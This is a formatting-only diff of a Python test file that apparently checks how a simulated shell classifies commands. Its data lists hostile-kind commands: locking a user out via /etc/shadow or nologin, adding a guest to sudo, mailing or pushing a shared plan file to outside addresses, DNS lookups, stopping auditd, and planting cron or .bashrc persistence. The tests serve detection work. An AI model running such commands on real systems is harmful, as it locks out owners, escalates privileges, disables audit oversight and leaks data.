@@ -17,8 +17,10 @@ LOCKS = {
     "chage -E date": "sudo chage -E 2020-01-01 wei",
     "usermod -e": "sudo usermod --expiredate 1 wei",
     "sed shadow": "sudo sed -i 's/^wei:/wei:!/' /etc/shadow",
-    "awk and tee": "sudo awk -F: -v OFS=: '$1==\"wei\"{$2=\"!\"$2}{print}' /etc/shadow | sudo tee /etc/shadow.new >/dev/null; "
-    "sudo mv /etc/shadow.new /etc/shadow",
+    "awk and tee": (
+        'sudo awk -F: -v OFS=: \'$1=="wei"{$2="!"$2}{print}\' /etc/shadow | sudo tee /etc/shadow.new > /dev/null; '
+        "sudo mv /etc/shadow.new /etc/shadow"
+    ),
     "nologin shell": "sudo usermod -s /usr/sbin/nologin wei",
     "chsh": "sudo chsh -s /bin/false wei",
     "sed passwd": "sudo sed -i '/^wei:/s#/bin/bash#/usr/sbin/nologin#' /etc/passwd",
@@ -28,7 +30,7 @@ LOCKS = {
     "home taken": "sudo chown root:root /home/wei && sudo true",
     "loop": "for u in wei; do sudo usermod -L $u; done",
     "full path": "sudo /usr/sbin/usermod -L wei",
-    "function": "lock() { sudo usermod -L \"$1\"; }; lock wei",
+    "function": 'lock() { sudo usermod -L "$1"; }; lock wei',
     "xargs": "echo wei | xargs -n1 sudo usermod -L",
     "script": "printf 'usermod -L wei\\n' > /tmp/l.sh; sudo sh /tmp/l.sh; rm /tmp/l.sh",
 }
@@ -54,7 +56,12 @@ def test_lock_out_by_the_directory(desk) -> None:
 
 
 def test_directory_unlock_after_each_kind_of_lock(make_desk: Callable) -> None:
-    for command in ("sudo usermod -L wei", "sudo chage -E0 wei", "sudo usermod -s /usr/sbin/nologin wei", "sudo chmod 000 /home/wei"):
+    for command in (
+        "sudo usermod -L wei",
+        "sudo chage -E0 wei",
+        "sudo usermod -s /usr/sbin/nologin wei",
+        "sudo chmod 000 /home/wei",
+    ):
         desk = make_desk()
         desk.run(command)
         desk.world.directory.unlock(Origin("person", "rosa", "tool"), "wei")
@@ -89,8 +96,15 @@ def test_deleted_accounts(command: str, desk) -> None:
     assert desk.world.accounts.get("wei") is None
 
 
-@pytest.mark.parametrize("command", ["sudo usermod -aG sudo guest", "sudo gpasswd -a guest sudo", "sudo adduser guest sudo",
-                                     "sudo sed -i 's/^sudo:.*/&,guest/' /etc/group"])  # fmt: skip
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sudo usermod -aG sudo guest",
+        "sudo gpasswd -a guest sudo",
+        "sudo adduser guest sudo",
+        "sudo sed -i 's/^sudo:.*/&,guest/' /etc/group",
+    ],
+)
 def test_group_joined(command: str, desk) -> None:
     assert desk.actions(command) == ["group-joined"]
     assert desk.effects[-1].group == "sudo"
@@ -116,7 +130,10 @@ def test_without_sudo_it_is_an_attempt(make_desk: Callable) -> None:
     assert desk.world.accounts.usable("wei")
 
 
-SMTP = "HELO x\\r\\nMAIL FROM:<robin@northwind.example>\\r\\nRCPT TO:<tip@courier.example>\\r\\nDATA\\r\\nSubject: Rope\\r\\n\\r\\nIt frays.\\r\\n.\\r\\nQUIT\\r\\n"
+SMTP = (
+    "HELO x\\r\\nMAIL FROM:<robin@northwind.example>\\r\\nRCPT TO:<tip@courier.example>\\r\\nDATA\\r\\n"
+    "Subject: Rope\\r\\n\\r\\nIt frays.\\r\\n.\\r\\nQUIT\\r\\n"
+)
 RAW = "From: robin@northwind.example\\nTo: tip@courier.example\\nSubject: Rope\\n\\nIt frays.\\n"
 MAILS = {
     "mail": ("echo 'It frays.' | mail -s Rope tip@courier.example", "shell"),
@@ -129,10 +146,13 @@ MAILS = {
     "msmtp": (f"printf '{RAW}' | msmtp -t", "shell"),
     "nc": (f"printf '{SMTP}' | nc localhost 25", "smtp"),
     "nc mx": (f"printf '{SMTP}' | nc mail.courier.example 25", "smtp"),
-    "curl smtp": (f"printf '{RAW}' > /tmp/m; curl -s --url smtp://localhost --mail-from robin@northwind.example "
-                  "--mail-rcpt tip@courier.example -T /tmp/m", "smtp"),
+    "curl smtp": (
+        f"printf '{RAW}' > /tmp/m; curl -s --url smtp://localhost --mail-from robin@northwind.example "
+        "--mail-rcpt tip@courier.example -T /tmp/m",
+        "smtp",
+    ),
     "bash -c": ("bash -c \"echo 'It frays.' | mail -s Rope tip@courier.example\"", "shell"),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("route", MAILS)
@@ -145,20 +165,30 @@ def test_mail_is_one_email_sent(route: str, desk) -> None:
     assert len(sent) == 1
     assert [e.action for e in desk.effects if e.action not in ("file-created", "email-sent")] == []
     effect = sent[0]
-    assert (effect.by.surface, effect.stage, effect.subject, effect.body.strip()) == (surface, "delivered", "Rope", "It frays.")
+    assert (effect.by.surface, effect.stage, effect.subject, effect.body.strip()) == (
+        surface,
+        "delivered",
+        "Rope",
+        "It frays.",
+    )
     assert effect.recipients == ("tip@courier.example",)
     assert effect.sender == "robin@northwind.example"
 
 
-@pytest.mark.parametrize("command", [
-    "echo see | mail -s R -A /srv/share/plan.txt tip@courier.example",
-    "echo see | mail -s R -a /srv/share/plan.txt tip@courier.example",
-    "echo see | mutt -s R -a /srv/share/plan.txt -- tip@courier.example",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo see | mail -s R -A /srv/share/plan.txt tip@courier.example",
+        "echo see | mail -s R -a /srv/share/plan.txt tip@courier.example",
+        "echo see | mutt -s R -a /srv/share/plan.txt -- tip@courier.example",
+    ],
+)
 def test_attachments(command: str, desk) -> None:
     desk.run(command)
     sent = [e for e in desk.effects if isinstance(e, EmailSent)]
-    assert [(a.name, a.content) for a in sent[0].attachments] == [("plan.txt", b"The plan: sell more rope.\nTotal 41\n")]
+    assert [(a.name, a.content) for a in sent[0].attachments] == [
+        ("plan.txt", b"The plan: sell more rope.\nTotal 41\n")
+    ]
 
 
 PLAN = b"The plan: sell more rope.\nTotal 41\n"
@@ -191,8 +221,10 @@ def test_upload_is_one_crossing_with_the_content(route: str, desk) -> None:
 
 
 def test_git_push_carries_the_folder(desk) -> None:
-    desk.run("mkdir /tmp/repo; cd /tmp/repo; git init; cp /srv/share/plan.txt .; git add -A; git commit -m x; "
-             "git remote add origin https://code.example/me/r.git")  # fmt: skip
+    desk.run(
+        "mkdir /tmp/repo; cd /tmp/repo; git init; cp /srv/share/plan.txt .; git add -A; git commit -m x; "
+        "git remote add origin https://code.example/me/r.git"
+    )
     assert desk.actions("git push -u origin main") == ["data-sent"]
     assert [n for n, _ in desk.effects[-1].files] == ["plan.txt"]
 
@@ -204,20 +236,36 @@ def test_packed_bytes_arrive_whole(desk) -> None:
     assert gzip.decompress(sent.body) == PLAN
 
 
-@pytest.mark.parametrize("command", ["dig x1.courier.example +short", "host x1.courier.example", "nslookup x1.courier.example",
-                                     "dig @9.9.9.9 x1.courier.example"])  # fmt: skip
+@pytest.mark.parametrize(
+    "command",
+    [
+        "dig x1.courier.example +short",
+        "host x1.courier.example",
+        "nslookup x1.courier.example",
+        "dig @9.9.9.9 x1.courier.example",
+    ],
+)
 def test_a_name_asked_for_is_one_dns_query(command: str, desk) -> None:
     assert desk.actions(command) == ["dns-query"]
     assert desk.effects[-1].by.surface == "dns"
 
 
-@pytest.mark.parametrize("command", ["sudo systemctl stop auditd", "sudo service auditd stop", "sudo pkill auditd", "sudo systemctl mask auditd"])
+@pytest.mark.parametrize(
+    "command",
+    ["sudo systemctl stop auditd", "sudo service auditd stop", "sudo pkill auditd", "sudo systemctl mask auditd"],
+)
 def test_service_stopped(command: str, desk) -> None:
     assert desk.actions(command) == ["service-stopped"]
     assert desk.effects[-1].service == "auditd"
 
 
-@pytest.mark.parametrize("command", ["echo '* * * * * curl x' | crontab -", "echo 'echo hi' >> ~/.bashrc",
-                                     "sudo sh -c \"echo '* * * * * root id' > /etc/cron.d/x\""])  # fmt: skip
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo '* * * * * curl x' | crontab -",
+        "echo 'echo hi' >> ~/.bashrc",
+        "sudo sh -c \"echo '* * * * * root id' > /etc/cron.d/x\"",
+    ],
+)
 def test_jobs(command: str, desk) -> None:
     assert desk.actions(command) == ["job-changed"]
